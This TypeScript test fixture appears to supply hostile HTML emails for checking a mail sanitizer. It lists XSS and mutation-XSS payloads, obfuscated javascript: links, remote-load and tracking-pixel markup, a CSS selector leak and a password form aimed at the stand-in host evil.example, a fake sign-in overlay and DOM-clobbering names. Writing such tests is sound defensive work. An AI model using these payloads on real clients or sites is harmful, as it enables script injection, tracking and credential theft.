/**
 * Mails that try to run a script, to fetch something, to lay hands on the page around them, or to be
 * something else after parsing. Every address they would reach has the host `evil.example`.
 */
const E = 'https://evil.example';

export const hostileMails: Record<string, string> = {
  // Scripts
  'a script element': '<script>parent.hacked = 1</script>',
  'a script from elsewhere': `<script src="${E}/a.js"></script>`,
  'a script in a nested document': '<iframe srcdoc="<script>parent.parent.hacked = 1</script>"></iframe>',
  'an event handler on a broken picture': '<img src="data:image/png;base64,x" onerror="parent.hacked = 1">',
  'an event handler without quotes': '<img src=x onerror=parent.hacked=1>',
  'an event handler after a slash': '<svg/onload=parent.hacked=1>',
  'an event handler on the body': '<body onload="parent.hacked = 1">text</body>',
  'an event handler on details': '<details open ontoggle="parent.hacked = 1">x</details>',
  'an event handler on an animation':
    '<style>@keyframes x{}</style><b style="animation:x 1s" onanimationstart="parent.hacked=1">x</b>',
  'an event handler on a focused field': '<input autofocus onfocus="parent.hacked = 1">',
  'a javascript link': '<a href="javascript:parent.hacked = 1">click</a>',
  'a javascript link with a tab in it': '<a href="java&#9;script:parent.hacked = 1">click</a>',
  'a javascript link with control characters': '<a href="&#1;javascript:parent.hacked = 1">click</a>',
  'a javascript link in capitals': '<a href="JaVaScRiPt:parent.hacked = 1">click</a>',
  'a vbscript link': '<a href="vbscript:msgbox(1)">click</a>',
  'a link to a data document': '<a href="data:text/html,<script>parent.hacked=1</script>">click</a>',
  'a link to a file': '<a href="file:///etc/passwd">click</a>',
  'a javascript picture map':
    '<img usemap="#m" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><map name="m"><area shape="rect" coords="0,0,9,9" href="javascript:parent.hacked=1"></map>',
  'a script in an SVG': '<svg><script>parent.hacked = 1</script></svg>',
  'an SVG animation of a link':
    '<svg><a><animate attributeName="href" values="javascript:parent.hacked=1"/><text>x</text></a></svg>',
  'an SVG use of another document': `<svg><use href="${E}/a.svg#x"></use></svg>`,
  'HTML inside MathML':
    '<math><mtext><table><mglyph><style><img src=x onerror=parent.hacked=1></style></mglyph></table></mtext></math>',
  'a form that ends its own style':
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=parent.hacked=1>',
  'markup in a noscript title':
    '<noscript><p title="</noscript><img src=x onerror=parent.hacked=1>"></noscript>',
  'markup in a template': '<template><img src=x onerror=parent.hacked=1></template>',
  'markup in a comment that ends early': '<!--><img src=x onerror=parent.hacked=1>-->',
  'markup in a title': '<title><img src="</title><img src=x onerror=parent.hacked=1>"></title>',
  'markup in an xmp': '<xmp><p title="</xmp><img src=x onerror=parent.hacked=1>"></xmp>',
  'a style that ends early': '<style><style/><img src=x onerror=parent.hacked=1></style>',
  'a processing instruction': '<?xml-stylesheet href="javascript:parent.hacked=1"?><p>x</p>',
  'an object': `<object data="${E}/a.swf"></object><embed src="${E}/b.swf">`,
  'an applet and a param': `<applet code="${E}/A.class"><param name="x" value="${E}"></applet>`,
  // Documents, navigation and forms
  'a frame': `<iframe src="${E}/frame"></iframe>`,
  'a frameset': `<frameset><frame src="${E}/frame"></frameset>`,
  'a base address': `<base href="${E}/"><img src="a.png"><a href="b">x</a>`,
  'a refresh': `<meta http-equiv="refresh" content="0;url=${E}/refresh">`,
  'a weaker policy': '<meta http-equiv="Content-Security-Policy" content="default-src *"><img src=x>',
  'a linked style sheet': `<link rel="stylesheet" href="${E}/a.css"><link rel="preload" as="image" href="${E}/p.png">`,
  'a prefetch and a preconnect': `<link rel="dns-prefetch" href="//evil.example"><link rel="preconnect" href="${E}">`,
  'a form': `<form action="${E}/login"><input name="password"><button formaction="${E}/x">Sign in</button></form>`,
  'a pinged link': `<a href="${E}/page" ping="${E}/ping">x</a>`,
  // Pictures and media
  'a remote picture': `<img src="${E}/pixel.gif">`,
  'a picture without a scheme': '<img src="//evil.example/pixel.gif">',
  'a set of pictures': `<img srcset="${E}/1.png 1x, ${E}/2.png 2x"><picture><source srcset="${E}/3.png"><img src="${E}/4.png"></picture>`,
  'a lazily loaded picture': `<img loading="lazy" data-src="${E}/a.png" lowsrc="${E}/b.png" dynsrc="${E}/c.png">`,
  'an image element': `<image src="${E}/a.png" xlink:href="${E}/b.png">`,
  'a picture button': `<input type="image" src="${E}/a.png">`,
  'a video and its poster': `<video poster="${E}/p.png" src="${E}/v.mp4" autoplay><track src="${E}/t.vtt"></video>`,
  'a sound': `<audio src="${E}/a.mp3" autoplay></audio><bgsound src="${E}/b.wav">`,
  'a background attribute': `<table background="${E}/a.png"><tr><td background="//evil.example/b.png">x</td></tr></table>`,
  'a background of the body': `<body background="${E}/a.png" style="background-image:url(${E}/b.png)">x</body>`,
  'an SVG picture': `<svg><image href="${E}/a.png"/></svg><img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='${E}/b.png'/%3E%3C/svg%3E">`,
  'an invented inline picture': '<img src="cid:__proto__"><img src="cid:toString"><img src="cid:%E0%A4%A">',
  // Style sheets
  'a background in a style attribute': `<p style="background:url(${E}/a.png)">x</p>`,
  'a background with escapes': '<p style="background:u\\72l(https\\3a//evil.example/a.png)">x</p>',
  'a background with a comment': `<p style="background:/**/url(${E}/a.png)/**/">x</p>`,
  'a set of backgrounds': `<p style="background-image:image-set('${E}/a.png' 1x);list-style-image:url(${E}/b.png)">x</p>`,
  'other properties with pictures': `<p style="cursor:url(${E}/a.cur),auto;border-image:url(${E}/b.png) 1;content:url(${E}/c.png);mask-image:url(${E}/d.png);filter:url(${E}/e.svg#f);shape-outside:url(${E}/g.png);clip-path:url(${E}/h.svg#i)">x</p>`,
  'a picture in a variable': `<p style="--a:url(${E}/a.png);background:var(--a)">x</p>`,
  'a background in a style sheet': `<style>p{background:url(${E}/a.png)}</style><p>x</p>`,
  'an import': `<style>@import "${E}/a.css";@import url(${E}/b.css);</style><p>x</p>`,
  'a font': `<style>@font-face{font-family:F;src:url(${E}/f.woff2)}p{font-family:F}</style><p>x</p>`,
  'a style sheet that reads attributes': `<style>a[href^="https://bank"]{background:url(${E}/?bank)}a::after{content:url(${E}/b)}</style><a href="https://bank.example/">x</a>`,
  'rules inside rules': `<style>p{color:red;&{background:url(${E}/a.png)}@media all{&{background:url(${E}/b.png)}}}@supports (color:red){p{background:url(${E}/c.png)}}@layer x{p{background:url(${E}/d.png)}}@container (width>1px){p{background:url(${E}/e.png)}}</style><p>x</p>`,
  'a style sheet with a namespace and a page': `<style>@namespace url(${E}/n);@page{background:url(${E}/p.png)}@counter-style c{system:cyclic;symbols:url(${E}/c.png)}@property --x{syntax:"<url>";inherits:true;initial-value:url(${E}/x)}</style><p>x</p>`,
  'old ways into scripts':
    '<p style="behavior:url(evil.htc);-moz-binding:url(https://evil.example/x.xml#y);width:expression(parent.hacked=1)">x</p>',
  'a layer over everything':
    '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Sign in again</div>',
  // Names that shadow the page's own
  'names of the document':
    '<img name="body"><form id="documentElement"></form><a id="defaultView" name="head"></a><p id="querySelector">x</p>',
  'a shadow root': `<div><template shadowrootmode="open"><img src="${E}/a.png"></template></div>`,
};
